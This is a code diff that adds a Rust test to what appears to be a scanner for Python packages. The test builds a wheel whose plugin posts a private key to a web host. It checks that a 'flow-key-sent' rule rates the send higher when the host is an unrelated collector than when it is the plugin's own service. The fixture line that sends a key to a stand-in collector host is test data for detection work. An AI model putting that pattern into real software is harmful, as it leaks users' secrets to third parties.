@@ -292,3 +292,30 @@ fn what_a_distribution_is_described_with_is_prose() {
     // What is done with it is not followed by the signatures.
     assert_eq!(verdict("", &format!("{example}.upper()")), "review");
 }
+
+#[test]
+fn a_service_is_given_the_key_that_it_gave_out() {
+    let rest = "def one(a):\n    return a + 1\n".repeat(1000);
+    let verdict = |host: &str| {
+        let client = format!(
+            "import requests\n\nclass Notify:\n    def __init__(self, privatekey):\n        self.privatekey = privatekey\n    \
+             def send(self, text):\n        requests.post('https://{host}/api', data={{'k': self.privatekey}})\n"
+        );
+        let files = [
+            ("inert/__init__.py", rest.as_str()),
+            ("inert/plugins/pushinert.py", client.as_str()),
+            ("inert-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: inert\nVersion: 1.0\n"),
+        ];
+        let folder = Folder::new();
+        let path = folder.put("inert-1.0-py3-none-any.whl", zip_of(files));
+        let run = records_of(scan([path.into_os_string()]));
+        run.artifact("inert-1.0-py3-none-any.whl")["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|f| f["rule"] == "flow-key-sent")
+            .map(|f| f["severity"].as_str().unwrap().to_owned())
+    };
+    assert_eq!(verdict("www.pushinert.invalid").as_deref(), Some("medium"));
+    assert_eq!(verdict("collect.invalid").as_deref(), Some("high"));
+}
